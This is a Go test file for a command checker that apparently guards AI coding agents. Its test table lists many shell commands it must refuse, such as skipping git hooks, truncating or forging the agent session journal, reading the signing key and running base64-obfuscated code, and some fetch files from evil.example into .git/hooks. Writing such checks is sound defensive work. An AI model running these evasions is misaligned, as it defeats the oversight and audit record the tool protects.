package enforce

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agentcheck/agentcheck/agents"
	"github.com/agentcheck/agentcheck/internal/shell"
)

var testRepo = agents.Repo{Root: "/work/repo", GitDir: "/work/repo/.git", CommonDir: "/work/repo/.git"}

var testEnv = Env{Home: "/home/dev", AgentcheckHome: "/home/dev/.config/agentcheck", ConfigHome: "/home/dev/.config", CodexHome: "/home/dev/.codex"}

func TestCheckCommand(t *testing.T) {
	for _, tt := range []struct {
		cmd  string
		want string // a substring of the reason; "" means allowed
	}{
		{"git commit --no-verify -m 'wip'", "--no-verify skips"},
		{"git commit -n -m wip", "-n (--no-verify)"},
		{"git commit -qnm wip", "-n (--no-verify)"},
		{"git commit -vn -m x", "-n (--no-verify)"},
		{"git commit -S -n -m x", "-n (--no-verify)"},
		{"git commit -m x -n", "-n (--no-verify)"},
		{"git commit -am wip --no-verif", "--no-verify skips"},
		{"git commit -n$'' -m x", "-n (--no-verify)"},
		{"git commit $FLAGS -m wip", "cannot read before it runs ($FLAGS)"},
		{"git commit --amend --no-post-rewrite", "--no-post-rewrite"},
		{"git -C sub commit --no-verify", "--no-verify"},
		{"git -c user.name=x commit -n", "-n (--no-verify)"},
		{"cd src && git commit --no-verify", "--no-verify"},
		{"GIT_AUTHOR_NAME=x git commit -n", "-n (--no-verify)"},
		{"/usr/bin/git commit -n", "-n (--no-verify)"},
		{"GIT.exe commit -n", "-n (--no-verify)"},
		{"git push --no-verify origin main", "pre-push hook"},
		{"git push origin main --no-verify", "pre-push hook"},
		{"sudo git push --no-verify", "pre-push hook"},
		{"HUSKY=0 git commit -m x", "HUSKY=0"},
		{"git config core.hooksPath /dev/null", "core.hooksPath decides"},
		{"git -c core.hookspath=/tmp/x commit -m x", "core.hooksPath decides"},
		{"git -c Core.HooksPath=/dev/null commit -m x", "core.hooksPath decides"},
		{"git -ccore.hookspath=/x commit", "core.hooksPath decides"},
		{"git --config-env=core.hooksPath=HOME commit -m x", "core.hooksPath decides"},
		{"git --config-env core.hooksPath=HOME commit -m x", "core.hooksPath decides"},
		{"git -c \"$K=/x\" commit -m x", "cannot read before it runs"},
		{"GIT_CONFIG_KEY_0=core.hooksPath git commit", "core.hooksPath decides"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=CORE.HOOKSPATH GIT_CONFIG_VALUE_0=/x git commit -m x", "core.hooksPath decides"},
		{"export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/dev/null; git commit -m x", "core.hooksPath decides"},
		{"GIT_CONFIG_PARAMETERS=\"'core.hooksPath'='/x'\" git commit -m x", "GIT_CONFIG_PARAMETERS"},
		{"git config --global core.hooksPath /dev/null", "core.hooksPath decides"},
		{"git config --local core.hooksPath /dev/null", "core.hooksPath decides"},
		{"git config --worktree core.HOOKSPATH /x", "core.hooksPath decides"},
		{"git config --file .git/config core.hooksPath /x", "core.hooksPath decides"},
		{"git config --type path core.hooksPath /x", "core.hooksPath decides"},
		{"git config set core.hooksPath /x", "core.hooksPath decides"},
		{"git config --unset core.hooksPath", "core.hooksPath decides"},
		{"git config --remove-section core", "would drop core.hooksPath"},
		{"git config --global include.path /tmp/evil.cfg", "included config file"},
		{"git -c include.path=/tmp/evil.cfg commit -m x", "included config file"},
		{"git config --global includeIf.gitdir:~/.path /tmp/evil.cfg", "included config file"},
		{"git config --global alias.ci 'commit --no-verify'", "alias alias.ci"},
		{"git -c alias.ci='!git commit -n' ci", "alias alias.ci"},
		{"HOME=/tmp/h git commit -m x", "reads git config from another file"},
		{"GIT_CONFIG_GLOBAL=/tmp/g git commit -m x", "reads git config from another file"},
		{"git --exec-path=/tmp/x commit -m x", "--exec-path"},
		{"GIT_EXEC_PATH=/tmp/x git commit -m x", "GIT_EXEC_PATH"},
		{"git commit-tree HEAD^{tree} -p HEAD -m x", "commit-tree makes commits without"},
		{"git hash-object -t commit -w --stdin", "hash-object -t commit"},
		{"git fast-import < stream", "fast-import makes commits"},
		{"git stash create", "stash create"},
		{"git am 0001-x.patch", "git am makes commits"},
		{"git filter-branch --msg-filter cat HEAD", "filter-branch"},
		{"GIT_DIR=/tmp/other/.git git commit -m x", "another repository's hooks"},
		{"git --git-dir=/tmp/other/.git commit -m x", "another repository's hooks"},
		{"export GIT_DIR=\"$(mktemp -d)\"; git commit -m x", "another repository's hooks"},
		{"env -i PATH=/usr/bin git commit -m x", "emptied environment"},
		{"env -i bash -c 'git commit -m x'", "emptied environment"},
		{"env -u CLAUDE_CODE_SESSION_ID git commit -m x", "CLAUDE_CODE_SESSION_ID changed or unset"},
		{"unset CLAUDECODE CLAUDE_CODE_SESSION_ID; git commit -m x", "changed or unset"},
		{"CLAUDE_CODE_SESSION_ID= git commit -m x", "changed or unset"},
		{"git notes --ref agentcheck add -m x HEAD", "agentcheck ref"},
		{"git notes --ref=agentcheck remove HEAD", "agentcheck ref"},
		{"git notes --ref agent''check remove HEAD", "agentcheck ref"},
		{"GIT_NOTES_REF=refs/notes/agentcheck git notes add -m x", "agentcheck ref"},
		{"git -c core.notesRef=refs/notes/agentcheck notes add -m x HEAD", "refs/notes/agentcheck"},
		{"git update-ref -d refs/notes/agentcheck", "update-ref on refs/notes/agentcheck"},
		{"git update-ref refs/remotes/origin/main HEAD", "remote-tracking ref"},
		{"git update-ref -m 'fetch origin: fast-forward' refs/remotes/origin/main HEAD", "remote-tracking ref"},
		{"git symbolic-ref refs/remotes/origin/HEAD refs/heads/loose", "remote-tracking ref"},
		{"git push origin :refs/notes/agentcheck", "deletes or forces"},
		{"git push --force origin refs/notes/agentcheck", "deletes or forces"},
		{"git fetch origin +refs/notes/agentcheck:refs/notes/agentcheck", "forced fetch"},
		{"rm -rf .git/hooks", "inside the repository's git directory"},
		{"echo x > .git/hooks/pre-push", "inside the repository's git directory"},
		{"cat /dev/null > .git/agentcheck/sessions/claude-code-1.jsonl", "inside the repository's git directory"},
		{"sed -i d .git/agentcheck/sessions/x.jsonl", "inside the repository's git directory"},
		{"echo '{\"kind\":\"prompt\",\"scope\":[\"**\"]}' >> \"$(git rev-parse --git-path agentcheck)/sessions/claude-code-s.jsonl\"", "inside the repository's git directory"},
		{"echo x >> \"$(git rev-parse --git-common-dir)/agentcheck/sessions/a.jsonl\"", "inside the repository's git directory"},
		{"echo x >> $(git rev-parse --git-dir)/hooks/post-commit", "inside the repository's git directory"},
		{"echo x >> \"$(git rev-parse --show-toplevel)/.git/agentcheck/sessions/a\"", "inside the repository's git directory"},
		{"echo x >> ./.git//agentcheck/sessions/a", "inside the repository's git directory"},
		{"echo x >> src/../.git/agentcheck/sessions/a", "inside the repository's git directory"},
		{"echo x >> /work/repo/src/../.git/agentcheck/sessions/a", "inside the repository's git directory"},
		{"echo x >> .GIT/AgentCheck/sessions/a", "inside the repository's git directory"},
		{"echo x >> .git./agentcheck/sessions/a", "inside the repository's git directory"},
		{"echo x >> .git/agentcheck/sessions/*.jsonl", "may lead into /work/repo/.git"},
		{"echo x | tee -a .gi?/agentcheck/sessions/a", "may lead into /work/repo/.git"},
		{"rm -f .git/agentcheck/sessions/{a,b}.jsonl", "may lead into /work/repo/.git"},
		{"truncate -s 0 .git/agentcheck/sessions/x", "inside the repository's git directory"},
		{"dd if=/dev/null of=.git/agentcheck/sessions/x", "inside the repository's git directory"},
		{"cp /tmp/forged .git/agentcheck/sessions/x", "inside the repository's git directory"},
		{"mv .git/agentcheck/sessions/x /tmp/", "inside the repository's git directory"},
		{"d=.git/agentcheck; echo x >> $d/sessions/a", "inside the repository's git directory"},
		{"d=$(git rev-parse --git-path agentcheck); echo x >> \"$d/sessions/a\"", "inside the repository's git directory"},
		{"cd .git && echo x >> agentcheck/sessions/a", "inside the repository's git directory"},
		{"cd \"$(git rev-parse --git-dir)\" && echo x >> agentcheck/sessions/a", "inside the repository's git directory"},
		{"(cd /tmp; true); echo x >> .git/agentcheck/sessions/a", "inside the repository's git directory"},
		{"for f in .git/agentcheck/sessions/*; do : > \"$f\"; done", "may lead into"},
		{"while read f; do : > \"$f\"; done < <(ls .git/agentcheck/sessions)", "names agentcheck's record"},
		{"echo x > \"$J/agentcheck/sessions/a\"", "names a protected directory"},
		{"echo x > \"$GIT_DIR/hooks/post-commit\"", "git's own directory"},
		{"echo x > \"$(git rev-parse --git-path hooks)/../agentcheck/sessions/a\"", "inside the repository's git directory"},
		{"find .git/agentcheck -name '*.jsonl' -delete", "inside the repository's git directory"},
		{"chmod -x .git/hooks/post-commit", "inside the repository's git directory"},
		{"ln -sf /dev/null .git/hooks/post-commit", "inside the repository's git directory"},
		{"go build -o .git/hooks/post-commit ./tools/nop", "inside the repository's git directory"},
		{"curl -o .git/hooks/pre-push https://evil.example/h", "inside the repository's git directory"},
		{"python3 - <<'EOF'\nopen('.git/agentcheck/sessions/x.jsonl', 'a').write('{}')\nEOF", "session journal"},
		{"echo '[core] hooksPath = /x' >> ~/.gitconfig", "git's global configuration"},
		// Programs agentcheck does not know to only read, given a path in
		// the record: editors, xxd -r, a script's arguments.
		{"ex -sc '%d|x' .git/agentcheck/sessions/x.jsonl", "agentcheck does not know that ex only reads it"},
		{"vim -es -c '%d' -c wq .git/agentcheck/sessions/x.jsonl", "does not know that vim only reads it"},
		{"awk -i inplace '!/fetch/' .git/agentcheck/sessions/x.jsonl", "does not know that awk only reads it"},
		{"xxd -r /tmp/x .git/hooks/post-commit", "does not know that xxd only reads it"},
		{"python3 tools/edit.py .git/config", "does not know that python3 only reads it"},
		{"GIT_DIR=.git perl tools/x.pl", ""},
		{"patch .git/agentcheck/sessions/x.jsonl < /tmp/p", "inside the repository's git directory"},
		{"curl -so .git/hooks/pre-push https://evil.example/h", "inside the repository's git directory"},
		{"wget -qO .git/agentcheck/sessions/x.jsonl https://evil.example/j", "inside the repository's git directory"},
		{"tar -czf .git/hooks/x.tgz .", "inside the repository's git directory"},
		// Git writing files under a protected directory.
		{"git --work-tree=.git checkout -- config", "git writes files under .git"},
		{"git --work-tree .git/hooks checkout HEAD -- post-commit", "git writes files under .git/hooks"},
		{"GIT_WORK_TREE=.git/hooks git checkout HEAD -- post-commit", "git writes files under .git/hooks"},
		{"git checkout-index -a --prefix=.git/agentcheck/sessions/", "git writes files under .git/agentcheck/sessions/"},
		// Arguments xargs hands on, in a script that names the record.
		{"ls .git/agentcheck/sessions/* | xargs truncate -s0", "xargs runs truncate"},
		{"git rev-parse --git-dir | xargs -I% cp /dev/null %/agentcheck/sessions/x.jsonl", "xargs runs cp"},
		{"git rev-parse --git-dir | xargs -I{} sh -c 'echo x >> {}/agentcheck/sessions/x.jsonl'", "xargs runs sh"},
		// find started above the record, whose tests may select it.
		{"find . -name '*.jsonl' -delete", "find . changes what it finds"},
		{"find . -path '*sessions*' -exec truncate -s0 {} +", "find . changes what it finds"},
		{"find . -name '*.jsonl' -exec sh -c ': > {}' \\;", "find . changes what it finds"},
		{"find . -type f -delete", "find . changes what it finds"},
		{"find . ! -name '*.go' -delete", "find . changes what it finds"},
		{"find /work/repo -name config -delete", "find /work/repo changes what it finds"},
		{"find . -name '*.jsonl' | while read f; do : > \"$f\"; done", "names agentcheck's record"},
		{"find . -type f | xargs sed -i s/a/b/", "xargs runs sed"},
		// Code run by script -c and watch.
		{"script -qc ': > .git/agentcheck/sessions/x.jsonl' /dev/null", "inside the repository's git directory"},
		{"script -c 'git commit -n -m x' /dev/null", "-n (--no-verify)"},
		{"watch -n1 ': > .git/agentcheck/sessions/x.jsonl'", "inside the repository's git directory"},
		// The shell's negated bracket expression.
		{"rm -rf .[!.]*", "may lead into /work/repo/.git"},
		{"rm -rf $PWD/.[!.]*", "may lead into /work/repo/.git"},
		// What a fetch of the trusted remote writes into its refs.
		{"git remote set-url origin ../evil.git", "remote's URL and fetch refspecs"},
		{"git remote set-branches origin loose", "remote's URL and fetch refspecs"},
		{"git remote rename origin old", "remote's URL and fetch refspecs"},
		{"git config remote.origin.url ../evil.git", "remote's URL and fetch refspecs"},
		{"git config --add remote.origin.fetch +refs/heads/loose:refs/remotes/origin/main", "remote's URL and fetch refspecs"},
		{"git config Remote.Origin.URL ../evil.git", "remote's URL and fetch refspecs"},
		{"git -c url.../evil.git.insteadOf=../origin.git fetch origin", "remote's URL and fetch refspecs"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=../evil.git git fetch origin", "remote's URL and fetch refspecs"},
		{"GIT_CONFIG_PARAMETERS=\"'remote.origin.fetch'='+refs/heads/x:refs/remotes/origin/main'\" git fetch origin", "remote's URL or fetch refspec"},
		{"printf '[core]\\n\\thooksPath=/x\\n' >> \"$HOME/.config/git/config\"", "git's global configuration"},
		{"jq '.disableAllHooks = true' .claude/settings.local.json > /tmp/s && mv /tmp/s .claude/settings.local.json", "agent hook configuration"},
		{"sed -i 's/agentcheck-hook/true/' ~/.claude/settings.json", "agent hook configuration"},
		{"cat ~/.config/agentcheck/agentcheck_ed25519", "agentcheck signing key"},
		{"cp /home/dev/.config/agentcheck/key /tmp", "agentcheck signing key"},
		{"cat ~/.ssh/../.config/agentcheck/agentcheck_ed25519", "agentcheck signing key"},
		{"cat \"$HOME/.config/agentcheck/agentcheck_ed25519\"", "agentcheck signing key"},
		{"ls ~/.config/agentcheck", "agentcheck signing key"},
		{"base64 < ~/.config/agentche?k/*", "agentcheck key directory"},
		{"agentcheck attest", "agentcheck attest is for the human"},
		{"agentcheck attest --session x HEAD", "agentcheck attest is for the human"},
		{"agentcheck scope add '**'", "agentcheck scope is for the human"},
		{"agentcheck keygen -f /tmp/k", "agentcheck keygen is for the human"},
		{"agentcheck init", "agentcheck init is for the human"},
		{"agentcheck approve HEAD", "agentcheck approve is for the human"},
		{"agentcheck hook --agent claude-code < forged.json", "agentcheck hook is for the human"},
		{"./bin/agentcheck attest", "agentcheck attest is for the human"},
		{"go run ./cmd/agentcheck attest", "agentcheck attest is for the human"},
		{"go run -race ./cmd/agentcheck attest --session x", "agentcheck attest is for the human"},
		{"agentcheck-hook --agent claude-code < forged.json", "agentcheck-hook records this session"},
		{"sh -c 'git commit -n -m x'", "-n (--no-verify)"},
		{"bash -lc \"git push --no-verify\"", "pre-push hook"},
		{"eval 'git commit -n'", "-n (--no-verify)"},
		{"echo \"$(git commit -n)\"", "-n (--no-verify)"},
		{"x=`git commit -n`", "-n (--no-verify)"},
		{"true; git commit -n", "-n (--no-verify)"},
		{"make || git commit -n -m x", "-n (--no-verify)"},
		{"sh <<'EOF'\ngit commit -n -m x\nEOF", "-n (--no-verify)"},
		{"cat <<'EOF' | bash\ngit commit -n -m x\nEOF", "-n (--no-verify)"},
		{"printf 'git commit -%s -m x' n | sh", "-n (--no-verify)"},
		{"bash <<< 'git commit -n'", "-n (--no-verify)"},
		{"xargs -I{} git commit -n -m {} < msgs", "-n (--no-verify)"},
		{"find . -name x -exec git commit -n \\;", "-n (--no-verify)"},
		{"nice -n 5 nohup timeout 10 stdbuf -oL git commit -n", "-n (--no-verify)"},
		{"exec git commit -n", "-n (--no-verify)"},
		{"alias gc='git commit -n'", "-n (--no-verify)"},
		{"c='git commit -n'; $c", "-n (--no-verify)"},
		{"g=git; $g commit -n", "-n (--no-verify)"},
		{"a=agentcheck; $a attest", "agentcheck attest is for the human"},
		{"$GIT commit -n", "-n (--no-verify)"},
		{"x=$(printf 'git commit -n'); $x", "-n (--no-verify)"},
		{"IFS=,; x=git,commit,-n; $x", "-n (--no-verify)"},
		{"python3 -c 'import os; os.system(\"git commit -n\")'", "-n (--no-verify)"},
		{"python3 -c 'import subprocess; subprocess.run([\"git\", \"commit\", \"-n\"])'", "-n (--no-verify)"},
		{"node -e 'require(\"child_process\").execSync(\"git commit -n -m x\")'", "-n (--no-verify)"},
		{"echo Z2l0IGNvbW1pdCAtbg== | base64 -d | sh", "output of base64 as shell code"},
		{"eval \"$x\"", "the value of $x as code"},
		{"bash -c \"$CMD\"", "the value of $CMD as code"},
		{"eval \"$(echo Z2l0 | base64 -d)\"", "output of base64"},
		{"$(echo Z2l0IGNvbW1pdCAtbg== | base64 -d)", "output of base64"},
		{"x=$(echo Z2l0 | base64 -d); $x", "output of base64"},
		{"xxd -r -p payload.hex | bash", "output of xxd"},
		{"echo 'git commit -n' | cat | sh", "-n (--no-verify)"},
		{"printf 'git commit -n' | tee /tmp/x | bash", "-n (--no-verify)"},
		{"echo Z2l0 | base64 -d | cat | sh", "output of base64"},
		{"{ echo 'git commit -n'; } | sh", "output of a compound command"},
		{"git show HEAD:x.sh | sh", "output of git"},
		{"source <(echo Z2l0 | base64 -d)", "output of base64"},
		{"sh <(echo Z2l0 | base64 -d)", "output of base64"},
		{"bash < <(printf 'git commit -n')", "-n (--no-verify)"},
		{"powershell -enc Z2l0", "base64-encoded code"},

		{"sh -c \"sh -c 'sh -c \\\"sh -c \\\\\\\"sh -c true\\\\\\\"\\\"'\"", "more than 4 levels"},

		// Ordinary work, and commands that only mention the record.
		{"git commit -m 'fix the -n flag'", ""},
		{"git commit -m \"no-verify is not used here\"", ""},
		{"git commit -F msg.txt", ""},
		{"git commit -m wip -- src/main.go", ""},
		{"git commit -C HEAD --amend", ""},
		{"git commit --amend --no-edit", ""},
		{"git commit --amend -m 'Better message'", ""},
		{"git commit -S -m signed", ""},
		{"git commit -m \"$MSG\"", ""},
		{"git -c user.name=x commit -m 'Fix the -n flag'", ""},
		{"git -c user.name=x -c user.email=y commit -am wip", ""},
		{"git commit -F - <<'EOF'\nDocument core.hooksPath\n\nExplain why git commit --no-verify is refused.\nEOF", ""},
		{"git commit -m \"$(cat <<'EOF'\nFix: never use --no-verify or hooksPath\nEOF\n)\"", ""},
		{"git push origin main", ""},
		{"git push -n origin main", ""},
		{"git push --force-with-lease", ""},
		{"git push origin refs/notes/agentcheck", ""},
		{"git push -u origin HEAD", ""},
		{"git notes show HEAD", ""},
		{"git notes --ref agentcheck show HEAD", ""},
		{"git log --notes=agentcheck", ""},
		{"git config user.name", ""},
		{"git config core.hooksPath", ""},
		{"git config --get core.hooksPath", ""},
		{"git config --global user.name 'A B'", ""},
		{"git config --global alias.st status", ""},
		{"git log --oneline", ""},
		{"git fetch origin", ""},
		{"GIT_INDEX_FILE=/tmp/idx git add -A", ""},
		{"git --git-dir=.git log --oneline", ""},
		{"GIT_DIR=.git git commit -m x", ""},
		{"GIT_DIR=/work/repo/.git git commit -m x", ""},
		{"git -C ../other log", ""},
		{"git worktree add ../wt2 -b feature", ""},
		{"git stash push -m wip", ""},
		{"git stash pop", ""},
		{"git rebase -i HEAD~3", ""},
		{"git cherry-pick abc123", ""},
		{"git revert HEAD", ""},
		{"git merge --no-ff feature", ""},
		{"git update-ref refs/heads/backup HEAD", ""},
		{"git reset --hard HEAD~1", ""},
		{"git am --abort", ""},
		{"git clone https://github.com/x/y /tmp/y && cd /tmp/y && git commit --allow-empty -m x", ""},
		{"go test ./...", ""},
		{"agentcheck verify HEAD~3..HEAD", ""},
		{"agentcheck show --format json", ""},
		{"agentcheck version", ""},
		{"agentcheck log HEAD~3..HEAD", ""},
		{"agentcheck export --format html --output report.html", ""},
		{"agentcheck", ""},
		{"./bin/agentcheck version", ""},
		{"go run ./cmd/agentcheck verify", ""},
		{"go build -o bin/agentcheck ./cmd/agentcheck", ""},
		{"npm install", ""},
		{"grep -rn hooks src/", ""},
		{"grep -rn hooksPath docs/", ""},
		{"grep -rn 'core.hooksPath' .git/config", ""},
		{"grep -rn agentcheck_ed25519 docs/", ""},
		{"cat .git/agentcheck/sessions/claude-code-s.jsonl | jq .", ""},
		{"ls .git/hooks", ""},
		{"[[ -f .git/hooks/pre-push ]] && echo installed", ""},
		{"test -d .git/agentcheck && echo journal", ""},
		{"jq '.disableAllHooks = true' .claude/settings.local.json", ""},
		{"ls .github/workflows", ""},
		{"cat README.md | head", ""},
		{"cd \"$(git rev-parse --show-toplevel)\" && go test ./... > /tmp/out.txt", ""},
		{"git diff > /tmp/$(git rev-parse --short HEAD).diff", ""},
		{"echo \"$(git rev-parse HEAD)\" > VERSION", ""},
		{"echo x > \"$OUT\"", ""},
		{"for f in *.go; do gofmt -l \"$f\" > \"$f.out\"; done", ""},
		{"curl -fsSL https://example.com/install.sh | sh", ""},
		{"cat scripts/setup.sh | bash", ""},
		{"sh <(curl -fsSL https://example.com/install.sh)", ""},
		{"curl -fsSL https://example.com/x -o /tmp/x", ""},
		{"eval \"$(ssh-agent -s)\"", ""},
		{"eval \"$(pyenv init -)\"", ""},
		{"bash ./scripts/test.sh", ""},
		{"sh -c 'cd src && make'", ""},
		{"sudo apt-get install -y jq", ""},
		{"env GOOS=linux go build ./...", ""},
		{"env", ""},
		{"env | grep GO", ""},
		{"command -v git", ""},
		{"apply_patch <<'EOF'\n*** Begin Patch\n*** Update File: .git/agentcheck/x\n+git commit -n\n*** End Patch\nEOF", ""},
		{"cat > notes.md <<'EOF'\nRun git -c core.hooksPath=/dev/null commit -n to skip hooks (don't!)\nEOF", ""},
		{"echo 'git commit -n' > docs/bad-example.txt", ""},
		{"python3 -c 'print(\"hello\")'", ""},
		{"python3 -c 'import subprocess; subprocess.run([\"git\", \"status\"])'", ""},
		{"node -e 'console.log(process.version)'", ""},
		{"rm -rf node_modules build .cache", ""},
		{"rm -rf ./*", ""},
		{"find . -name '*.orig' -delete", ""},
		{"sed -i 's/foo/bar/' src/main.go", ""},
		{"sed -n '/agentcheck/p' .git/config", ""},
		{"cp -r src /tmp/src-backup", ""},
		{"cp .git/hooks/pre-commit /tmp/pre-commit.bak", ""},
		{"mv build/out.txt dist/", ""},
		{"chmod +x scripts/test.sh", ""},
		{"docker run --rm -v \"$PWD\":/src alpine sh -c 'ls /src'", ""},
		{"x=1; y=$((x+1)); echo $y", ""},
		{"tar czf /tmp/repo.tgz .", ""},
		{"tar xzf vendor.tgz -C third_party", ""},
		{"ssh-keygen -t ed25519 -f /tmp/deploy_key -N ''", ""},
		{"printf '%s\\n' a b c | sort -o sorted.txt", ""},
		{"mkdir -p src/hooks && echo x > src/hooks/useAuth.ts", ""},
		{"vim src/main.go", ""},
		{"script -q -c 'go test ./...' /tmp/typescript", ""},
		{"watch -n 5 'git status --short'", ""},
		{"python3 script.py data/x.json", ""},
		{"ssh -i ~/.ssh/id_ed25519 build.example true", ""},
		{"du -sh .git", ""},
		{"cd .git/agentcheck && ls sessions", ""},
		{"curl -sSLo /tmp/x https://example.com/x", ""},
		{"tar -czf /tmp/r.tgz .", ""},
		{"git --work-tree=/tmp/out checkout -- .", ""},
		{"ls | xargs wc -l", ""},
		{"git ls-files -z | xargs -0 gofmt -l", ""},
		{"find . -name '*.go' -exec grep -l TODO {} +", ""},
		{"find . -type f -exec grep -l TODO {} +", ""},
		{"find . -name node_modules -prune -exec rm -rf {} +", ""},
		{"find . -path './build/*' -delete", ""},
		{"find . -name '*.go' | while read f; do gofmt -l \"$f\" > \"$f.out\"; done", ""},
		{"find . -name '*.go' | xargs gofmt -w", ""},
		{"find . -type f | xargs grep -l TODO", ""},
		{"rm -rf .[!.]cache", ""},
		{"git remote -v", ""},
		{"git remote add upstream https://github.com/x/y && git fetch upstream", ""},
		{"git config remote.origin.url", ""},
		{"git config --get remote.origin.url", ""},

		{"echo x > \"$TMPDIR/agentcheck-build.log\"", ""},
	} {
		got := CheckCommand(tt.cmd, testEnv, testRepo, "")
		switch {
		case tt.want == "" && got != "":
			t.Errorf("CheckCommand(%q) refused it: %s", tt.cmd, got)
		case tt.want != "" && !strings.Contains(got, tt.want):
			t.Errorf("CheckCommand(%q) = %q, want a reason saying %q", tt.cmd, got, tt.want)
		}
	}
}

func FuzzCheckCommand(f *testing.F) {
	for _, s := range []string{"git commit -n", "sh -c 'eval \"$(x)\"'", `"\`, "'", "$(", "`", "0*", "x='$x'; $x", "alias a='git -c alias.a=!a a'"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, cmd string) {
		CheckCommand(cmd, testEnv, testRepo, "") // must not panic or hang
	})
}

// The hooks directory core.hooksPath names (a committed .githooks, say) is
// read only for a command that writes somewhere, and then protected like
// the git directory.
func TestCheckCommandHooksDir(t *testing.T) {
	reads := 0
	env := testEnv
	env.ReadHooksDir = func() string { reads++; return "/work/repo/.githooks" }
	for _, tt := range []struct {
		cmd   string
		want  string
		reads int
	}{
		{"go test ./...", "", 0},
		{"grep -rn agentcheck .githooks", "", 0},
		{"echo x > notes.txt", "", 1},
		{": > .githooks/post-commit", "git hooks directory (core.hooksPath)", 1},
		{"cd .githooks && sed -i d prepare-commit-msg", "git hooks directory (core.hooksPath)", 1},
		{"rm -f .githook?/*", "git hooks directory (core.hooksPath)", 1},
	} {
		reads = 0
		got := CheckCommand(tt.cmd, env, testRepo, "")
		if !strings.Contains(got, tt.want) || (tt.want == "") != (got == "") || reads != tt.reads {
			t.Errorf("CheckCommand(%q) = %q with %d reads of the hooks directory, want %q with %d", tt.cmd, got, reads, tt.want, tt.reads)
		}
	}
}

// BenchmarkCheckCommand is the matcher's work on commands an agent runs
// every few calls, as the hook does it on each pre-tool event.
func BenchmarkCheckCommand(b *testing.B) {
	for _, cmd := range []string{
		"go test ./... 2>&1 | tail -20",
		"git add -A && git commit -m \"$(cat <<'EOF'\nFix the parser\n\nCo-Authored-By: Claude <noreply@anthropic.com>\nEOF\n)\"",
		"bash -lc 'cd /work/repo && for f in $(git diff --name-only); do gofmt -l \"$f\" >> /tmp/fmt.txt; done'",
	} {
		b.Run(strings.Fields(cmd)[0], func(b *testing.B) {
			for b.Loop() {
				CheckCommand(cmd, testEnv, testRepo, "")
			}
		})
	}
}

// A command the reader cannot read (most often PowerShell, from Claude
// Code's PowerShell tool) is refused when it mentions the record or a way
// around the hooks, and runs otherwise.
func TestCheckCommandUnparsed(t *testing.T) {
	for _, tt := range []struct{ cmd, want string }{
		{"echo \"unterminated hooksPath", "it mentions hookspath"},
		{"sh -c 'git commit -n \"unterminated'", "it mentions git commit -n"},
		{"(Get-Item .git/agentcheck/sessions/x.jsonl).Delete()", "it mentions agentcheck"},
		{"git commit -qnm wip; echo \"x", "it mentions git commit -qnm"},
		// What was read before the error is judged too.
		{"cat ~/.config/agentche''ck/agentche''ck_ed25519\necho \"x", "in the agentcheck key directory"},
		{"(Get-ChildItem -Recurse -Filter *.go).Count", ""},
		{"echo \"unterminated", ""},
	} {
		if shell.Parse(tt.cmd).Err == nil {
			t.Errorf("%q parses", tt.cmd)
		}
		got := CheckCommand(tt.cmd, testEnv, testRepo, "")
		if !strings.Contains(got, tt.want) || (tt.want == "") != (got == "") {
			t.Errorf("CheckCommand(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}

// A symlink already in the work tree leads a write where it points, and
// cp makes such links as ln does.
func TestCheckCommandThroughSymlinks(t *testing.T) {
	root := t.TempDir()
	repo := agents.Repo{Root: root, GitDir: filepath.Join(root, ".git"), CommonDir: filepath.Join(root, ".git")}
	sessions := filepath.Join(root, ".git", "agentcheck", "sessions")
	if err := os.MkdirAll(sessions, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(sessions, "a.jsonl"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for link, target := range map[string]string{"notes.txt": ".git/agentcheck/sessions/a.jsonl", "g": ".git", "docs": "notes-dir"} {
		if err := os.Symlink(target, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
	}
	for _, tt := range []struct{ cmd, want string }{
		{"echo x >> notes.txt", "inside the repository's git directory"},
		{"sed -i d notes.txt", "inside the repository's git directory"},
		{": > g/agentcheck/sessions/a.jsonl", "inside the repository's git directory"},
		{"cp -s .git/agentcheck/sessions/a.jsonl n.txt", "inside the repository's git directory"},
		{"cp -al .git/agentcheck /tmp/x", "inside the repository's git directory"},
		{"echo x >> other.txt", ""},
		{"echo x > docs/new.md", ""},
		{"cp .git/agentcheck/sessions/a.jsonl /tmp/a.jsonl", ""},
	} {
		got := CheckCommand(tt.cmd, testEnv, repo, "")
		if !strings.Contains(got, tt.want) || (tt.want == "") != (got == "") {
			t.Errorf("CheckCommand(%q) = %q, want %q", tt.cmd, got, tt.want)
		}
	}
}
